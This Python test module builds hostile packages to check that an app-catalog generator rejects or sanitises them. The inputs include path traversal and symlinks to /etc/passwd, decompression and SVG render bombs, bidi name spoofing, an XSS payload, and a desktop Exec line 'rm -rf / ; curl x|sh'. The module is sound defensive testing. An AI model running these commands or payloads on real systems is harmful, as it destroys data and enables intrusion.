"""The bad inputs the generator must survive, each with the reason the report must give."""

from __future__ import annotations

import json
import lzma
import os
import resource
import subprocess
import sys
import tarfile
import time
from dataclasses import dataclass, field
from pathlib import Path

from tests.extract import samples
from tests.extract.packages import (
    Link,
    build_deb,
    build_rpm,
    hand_made_deb,
    tar_bytes,
    write_ar,
)

SCALABLE = "usr/share/icons/hicolor/scalable/apps"


def build_hostile_inputs(directory: Path) -> dict[str, tuple[str, str]]:
    """Write bad packages into ``directory``; returns file name → (status, reason tag)."""
    directory.mkdir(parents=True, exist_ok=True)
    expected: dict[str, tuple[str, str]] = {}

    good = build_deb(directory, "truncated", samples.mines_files())
    data = good.read_bytes()
    good.write_bytes(data[: len(data) // 2])
    expected[good.name] = ("failed", "corrupt-archive")

    rpm = build_rpm(directory, "truncated-rpm", samples.mines_files())
    rpm.write_bytes(rpm.read_bytes()[:-200])
    expected[rpm.name] = ("failed", "corrupt-archive")

    lz4 = hand_made_deb(directory / "lz4_1_all.deb", "lz4", b"\x04\x22\x4d\x18junk", "data.tar.lz4")
    expected[lz4.name] = ("failed", "unknown-compression")

    garbage = directory / "garbage_1_all.deb"
    garbage.write_bytes(b"this is not an ar archive at all")
    expected[garbage.name] = ("failed", "corrupt-archive")

    # Path traversal and absolute names: the traversal copy must not land anywhere.
    entries = [
        (tarfile.TarInfo("./usr/share/applications/../../../../../../tmp/evil.desktop"), b"x"),
        (tarfile.TarInfo("/etc/cron.d/evil"), b"x"),
        (tarfile.TarInfo("./usr/share/applications/evil.desktop"), b"[Desktop Entry]\n"),
    ]
    link = tarfile.TarInfo("./usr/share/icons/hicolor/64x64/apps/evil.png")
    link.type, link.linkname = tarfile.SYMTYPE, "../../../../../../../../etc/passwd"
    traversal = hand_made_deb(
        directory / "traversal_1_all.deb",
        "traversal",
        lzma.compress(tar_bytes([*entries, link])),
        "data.tar.xz",
    )
    expected[traversal.name] = ("not-application", "desktop-not-application")

    outside = build_deb(
        directory,
        "symlink-out",
        samples.app_files(
            "org.example.Out",
            samples.desktop("Out", "org.example.Out"),
            {"usr/share/icons/hicolor/64x64/apps/org.example.Out.png": Link("/etc/passwd")},
        ),
    )
    expected[outside.name] = ("not-application", "icon-not-found")

    utf8 = build_deb(
        directory, "bad-utf8", samples.app_files("org.example.Utf", b"[Desktop Entry]\nName=\xff\n")
    )
    expected[utf8.name] = ("not-application", "desktop-invalid-utf8")

    long_line = build_deb(
        directory,
        "long-line",
        samples.app_files(
            "org.example.Long",
            "[Desktop Entry]\nType=Application\nIcon=org.example.Long\nName=" + "A" * 1_000_000,
        ),
    )
    expected[long_line.name] = ("not-application", "desktop-no-name")

    markup = build_deb(
        directory,
        "markup-name",
        samples.app_files(
            "org.example.Markup",
            samples.desktop(
                "<b>Bold</b><img src=x onerror=alert(1)>", "org.example.Markup"
            ).replace("Exec=org.example.Markup", "Exec=sh -c 'rm -rf / ; curl x|sh'"),
        ),
    )
    expected[markup.name] = ("application", "")

    bomb = build_deb(
        directory,
        "png-bomb",
        samples.app_files(
            "org.example.Bomb",
            samples.desktop("Bomb", "org.example.Bomb"),
            {"usr/share/icons/hicolor/64x64/apps/org.example.Bomb.png": samples.huge_png_header()},
        ),
    )
    expected[bomb.name] = ("not-application", "icon-invalid")

    xxe = build_deb(
        directory,
        "svg-xxe",
        samples.app_files(
            "org.example.Xxe",
            samples.desktop("Xxe", "org.example.Xxe"),
            {f"{SCALABLE}/org.example.Xxe.svg": samples.EXTERNAL_ENTITY_SVG},
        ),
    )
    expected[xxe.name] = ("not-application", "icon-invalid")
    return expected


# -- the hostile corpus (issue #20): one builder per class of fault ------------------------------
#: Generous limits that only prove "did not hang / did not exhaust memory".
RUN_TIMEOUT = 120.0
MEMORY_CAP = 1536 * 1024 * 1024


@dataclass
class Case:
    """One hostile input beside a good package: what the report must say about it."""

    name: str
    inputs: list[Path]
    tag: str
    status: str = "failed"
    args: list[str] = field(default_factory=list)
    #: A hint tag the input's report entry must carry besides its reason.
    hint: str = ""
    #: Text one of the entry's hint messages must contain.
    message: str = ""
    #: Application ids (beyond the good package's) that must be in the catalog, with the name
    #: each must have in the C locale.
    apps: dict[str, str] = field(default_factory=dict)
    #: Application id → the (package, version) pairs it must have in the catalog.
    packages: dict[str, list[tuple[str, str]]] = field(default_factory=dict)


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    report: dict


def limit_memory() -> None:
    """``preexec_fn`` of the processes under test: runs in the child before exec."""
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def run_generate(
    args: list[str], cwd: Path, *, timeout: float = RUN_TIMEOUT, env: dict | None = None
) -> Run:
    """``appcenter-generate`` in a real process with its address space capped at
    :data:`MEMORY_CAP`: a header that makes it allocate gigabytes ends in MemoryError there
    (an ``internal-error`` the tests reject), not in the test machine swapping."""
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-m", "appcenter_qt.cli.generate", "-q", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
        cwd=cwd,
        env={**os.environ, "SOURCE_DATE_EPOCH": "1700000000", **(env or {})},
        preexec_fn=limit_memory,
    )
    seconds = time.monotonic() - started
    report_path = cwd / "out" / "report.json"
    report = json.loads(report_path.read_text()) if report_path.exists() else {}
    return Run(result.returncode, result.stdout, result.stderr, seconds, report)


def good_package(directory: Path) -> Path:
    """The good input processed beside every hostile one: it must stay in the catalog."""
    return build_deb(directory, "gnome-mines", samples.mines_files())


def raw_tar_header(name: str, size: int, kind: bytes) -> bytes:
    """One ustar header block claiming ``size`` bytes of data, checksummed, no data after it:
    what a hostile archive looks like to a reader that trusts it."""
    header = bytearray(512)
    header[0 : len(name)] = name.encode()
    header[100:108] = b"0000644\0"
    header[124:136] = f"{size:011o}\0".encode()
    header[136:148] = b"00000000000\0"
    header[156:157] = kind
    header[257:265] = b"ustar  \0"
    header[148:156] = b" " * 8
    header[148:156] = f"{sum(header):06o}\0 ".encode()
    return bytes(header)


def zstd_zeros(head: bytes, zeros: int) -> bytes:
    """``head`` followed by ``zeros`` zero bytes, zstd-compressed (a few hundred KiB for
    gigabytes): the data really is there, so only a capped reader avoids allocating it."""
    import zstandard

    compressor = zstandard.ZstdCompressor(level=1).compressobj()
    parts = [compressor.compress(head)]
    block = bytes(16 * 1024 * 1024)
    while zeros > 0:
        parts.append(compressor.compress(block[: min(zeros, len(block))]))
        zeros -= len(block)
    parts.append(compressor.flush())
    return b"".join(parts)


def patch_rpm_cpio(rpm: Path, **fields: int) -> Path:
    """Rewrite the first cpio header of a real gzip-payload rpm (``mode``, ``filesize``,
    ``namesize``): rpmbuild would never write a 3.9 GB name, a hostile repository can."""
    import gzip

    import rpmfile

    data = rpm.read_bytes()
    with rpm.open("rb") as handle, rpmfile.open(fileobj=handle) as package:
        offset = package.data_offset
    payload = bytearray(gzip.decompress(data[offset:]))
    positions = {"mode": 1, "filesize": 6, "namesize": 11}
    for key, value in fields.items():
        start = 6 + 8 * positions[key]
        payload[start : start + 8] = f"{value:08X}".encode()
    rpm.write_bytes(data[:offset] + gzip.compress(bytes(payload)))
    return rpm


def archive_header_cases(directory: Path) -> list[Case]:
    """Class 2: lengths read from archive headers, each far beyond the data behind them."""
    cases = []
    for kind, name in ((b"L", "././@LongLink"), (b"K", "././@LongLink"), (b"x", "PaxHeader")):
        label = {b"L": "longname", b"K": "longlink", b"x": "pax"}[kind]
        deb = hand_made_deb(
            directory / f"tar-{label}_1_all.deb",
            f"tar-{label}",
            zstd_zeros(raw_tar_header(name, 2 * 1024**3, kind), 2 * 1024**3 + 4096),
            "data.tar.zst",
        )
        cases.append(Case(f"tar {label} header of 2 GiB", [deb], "corrupt-archive"))
    control = directory / "control-longname_1_all.deb"
    write_ar(
        control,
        [
            ("debian-binary", b"2.0\n"),
            (
                "control.tar.zst",
                zstd_zeros(raw_tar_header("././@LongLink", 2 * 1024**3, b"L"), 2 * 1024**3),
            ),
            ("data.tar", tar_bytes([])),
        ],
    )
    cases.append(Case("control.tar long name of 2 GiB", [control], "corrupt-archive"))
    arch = directory / "tar-longname-1-1-any.pkg.tar.zst"
    arch.write_bytes(
        zstd_zeros(raw_tar_header("././@LongLink", 2 * 1024**3, b"L"), 2 * 1024**3 + 4096)
    )
    cases.append(Case("Arch package long name of 2 GiB", [arch], "corrupt-archive"))
    files = samples.mines_files()
    for label, fields in (
        ("symlink", {"mode": 0o120777, "filesize": 0xF0000000}),
        ("namesize", {"namesize": 0xF0000000}),
        ("filesize", {"filesize": 0xF0000000}),
    ):
        rpm = build_rpm(directory, f"cpio-{label}", files, compression="gzip")
        cases.append(
            Case(f"rpm cpio {label} 0xF0000000", [patch_rpm_cpio(rpm, **fields)], "corrupt-archive")
        )
    return cases


def fifo_cases(directory: Path) -> list[Case]:
    """Class 5: FIFOs where files belong. Opening one for reading blocks until a writer comes."""
    cases = []
    tree = directory / "fifo-tree"
    for name, content in samples.mines_files().items():
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).write_bytes(content.encode() if isinstance(content, str) else content)
    os.mkfifo(tree / "usr/share/applications/org.example.Fifo.desktop")
    info = tree / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (info / "gnome-mines.list").write_text("/usr/share/applications/org.gnome.Mines.desktop\n")
    os.mkfifo(tree / "var/lib/dpkg/status")
    cases.append(
        Case("tree with FIFO desktop file and dpkg status", [tree], "", "application", ["--tree"])
    )
    fifo = directory / "fifo_1_all.deb"
    os.mkfifo(fifo)
    cases.append(Case("a FIFO named like a package", [fifo], "corrupt-archive"))
    catalog = directory / "Components-amd64.yml"
    os.mkfifo(catalog)
    cases.append(
        Case(
            "a FIFO given as a catalog",
            [catalog],
            "corrupt-archive",
            args=["--format", "dep11"],
            message="a FIFO, not a regular file",
        )
    )
    return cases


def dpkg_database_cases(directory: Path) -> list[Case]:
    """Issue 29, class 7: an unpacked root whose dpkg database is as large as its caps allow
    and shaped to cost memory: a ``.list`` file with a 4 MiB line before the desktop file's,
    a ``status`` of 96 MiB (removed packages with long descriptions, one 8 MiB line) whose
    owning package's paragraph comes last. Both are streamed: the app keeps its package."""
    tree = directory / "big-dpkg-tree"
    files = samples.app_files("org.example.Tree", samples.desktop("Tree", "org.example.Tree"))
    for name, content in files.items():
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).write_bytes(content.encode() if isinstance(content, str) else content)
    info = tree / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (info / "tree-app.list").write_bytes(
        b"/" + b"x" * (4 * 1024 * 1024) + b"\n/usr/share/applications/org.example.Tree.desktop\n"
    )
    paragraph = (
        b"Package: gone\nStatus: deinstall ok config-files\nDescription: gone\n"
        + b" "
        + b"y" * 78
        + b"\n"
    ) * 8 + b"\n"
    block = paragraph * (1024 * 1024 // len(paragraph))
    with (tree / "var/lib/dpkg/status").open("wb") as status:
        status.write(b"Package: long\nDescription: " + b"z" * (8 * 1024 * 1024) + b"\n\n")
        for _ in range(88):
            status.write(block)
        status.write(b"Package: tree-app\nStatus: install ok installed\nVersion: 9.9-last\n")
    return [
        Case(
            "tree with a 96 MiB dpkg status and overlong lines",
            [tree],
            "",
            "application",
            ["--tree"],
            apps={"org.example.Tree": "Tree"},
            packages={"org.example.Tree": [("tree-app", "9.9-last")]},
        )
    ]


def deep_description(depth: int) -> str:
    return (
        "<description><p>Deep</p>"
        + "<ul><li>" * depth
        + "x"
        + "</li></ul>" * depth
        + ("</description>")
    )


def recursion_cases(directory: Path) -> list[Case]:
    """Class 3: structure nested thousands deep, which recursive walkers cannot survive. The
    package also holds a sibling application, which must not be lost with it."""
    metainfo = samples.MINES_METAINFO.replace("org.gnome.Mines", "org.example.Deep")
    metainfo = metainfo.replace("</component>", deep_description(5000) + "</component>")
    files = {
        **samples.app_files("org.example.Deep", samples.desktop("Deep", "org.example.Deep")),
        **samples.app_files(
            "org.example.Sibling", samples.desktop("Sibling", "org.example.Sibling")
        ),
        "usr/share/metainfo/org.example.Deep.metainfo.xml": metainfo,
    }
    deb = build_deb(directory, "deep-metainfo", files)
    return [
        Case(
            "metainfo description 5000 deep",
            [deb],
            "",
            "application",
            hint="metainfo-too-deep",
            apps={"org.example.Deep": "Mines", "org.example.Sibling": "Sibling"},
        )
    ]


def bidi_cases(directory: Path) -> list[Case]:
    """Class 7: bidi controls that make a name display as another (\u202e reverses)."""
    name = "\u202eSETTINGS\u202c Mines\u2066"
    files = samples.app_files(
        "org.example.Bidi",
        samples.desktop(name, "org.example.Bidi", "Comment=\u200fsafe\u061c summary\n"),
    )
    deb = build_deb(directory, "bidi", files)
    return [
        Case(
            "bidi controls in name and summary",
            [deb],
            "",
            "application",
            hint="bidi-control-stripped",
            apps={"org.example.Bidi": "SETTINGS Mines"},
        )
    ]


SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '


def slow_svg(primitives: int = 19_000) -> str:
    """Within every static cap (elements, octaves, depth) and still minutes of resvg time:
    only the renderer's time limit stops it."""
    chain = "".join(
        f'<feTurbulence baseFrequency="0.05" numOctaves="16" result="t{n}"/>'
        for n in range(primitives)
    )
    return (
        SVG_HEAD + 'width="64" height="64"><filter id="f">' + chain + "</filter>"
        '<rect width="64" height="64" filter="url(#f)"/></svg>'
    )


def hostile_svgs() -> dict[str, str]:
    """Class 1: SVGs that crash, hang or bloat resvg; each is refused before rendering."""
    import base64

    png = base64.b64encode(samples.huge_png_header()).decode()
    return {
        "nested": SVG_HEAD
        + 'width="64" height="64">'
        + '<g opacity="0.9">' * 900
        + '<rect width="9" height="9"/>'
        + "</g>" * 900
        + "</svg>",
        "turbulence": SVG_HEAD + 'width="64" height="64"><filter id="f"><feTurbulence '
        'baseFrequency="0.05" numOctaves="100000000"/></filter>'
        '<rect width="64" height="64" filter="url(#f)"/></svg>',
        "canvas": SVG_HEAD + 'width="1000000" height="1000000"><rect width="9" height="9"/></svg>',
        "embedded": SVG_HEAD + 'width="64" height="64">'
        f'<image width="64" height="64" xlink:href="data:image/png;base64,{png}"/></svg>',
    }


def svg_package(directory: Path, label: str, svg: str) -> Path:
    app = f"org.example.Svg{label.title()}"
    files = samples.app_files(app, samples.desktop(label, app), {f"{SCALABLE}/{app}.svg": svg})
    return build_deb(directory, f"svg-{label}", files)


def svg_cases(directory: Path) -> list[Case]:
    """The SVGs refused before rendering, and one that renders for minutes cut by the input's
    time limit (3 s here)."""
    cases = [
        Case(
            f"svg {label}", [svg_package(directory, label, svg)], "icon-invalid", "not-application"
        )
        for label, svg in hostile_svgs().items()
    ]
    slow = svg_package(directory, "slow", slow_svg())
    cases.append(
        Case(
            "input over --input-timeout",
            [slow],
            "input-timeout",
            args=["--input-timeout", "3"],
            message="timeout after 3 s",
        )
    )
    return cases


def svg_render_timeout_cases(directory: Path) -> list[Case]:
    """The SVG that renders for minutes cut by the renderer's own limit (20 s): the slow tier."""
    return [
        Case(
            "svg that renders for minutes",
            [svg_package(directory, "slow", slow_svg())],
            "icon-render-failed",
            "not-application",
            ["--icon-size", "64"],
            hint="icon-render-failed",
            message="timeout after 20 s",
        )
    ]


def catalog_cases(directory: Path) -> list[Case]:
    """Class 4: a catalog XML broken after 40 good components keeps them (the first also
    carries bidi controls, class 7, which catalog imports strip like package imports)."""

    def component(number: int, name: str) -> str:
        return (
            f'<component type="desktop-application"><id>org.example.Xml{number}</id>'
            f"<name>{name}</name><pkgname>xml{number}</pkgname></component>\n"
        )

    body = component(0, "\u202eXml0") + "".join(component(n, f"Xml{n}") for n in range(1, 40))
    broken = directory / "broken.xml"
    broken.write_text(
        '<?xml version="1.0"?>\n<components version="0.14" origin="test">\n'
        + body
        + '<component type="desktop-application"><id>org.example.Bad</id <name>\n'
        + component(99, "After")
        + "</components>\n"
    )
    icons = directory / "icons-64x64.tar.zst"
    icons.write_bytes(
        zstd_zeros(raw_tar_header("././@LongLink", 2 * 1024**3, b"L"), 2 * 1024**3 + 4096)
    )
    iconic = directory / "iconic.xml"
    iconic.write_text(
        '<?xml version="1.0"?>\n<components version="0.14" origin="test">\n'
        '<component type="desktop-application"><id>org.example.Iconic</id><name>Iconic</name>'
        '<icon type="cached" width="64" height="64">iconic.png</icon></component>\n'
        "</components>\n"
    )
    return [
        Case(
            "icon tarball with a long name of 2 GiB",
            [iconic],
            "",
            "application",
            ["--icons", str(icons)],
            hint="corrupt-icon-tarball",
            message="long name/link header claims 2147483648 bytes",
            apps={"org.example.Iconic": "Iconic"},
        ),
        Case(
            "catalog XML with a syntax error after 40 components",
            [broken],
            "",
            "application",
            hint="malformed-xml",
            message="line 43, column",
            apps={"org.example.Xml0": "Xml0", "org.example.Xml39": "Xml39"},
        ),
    ]
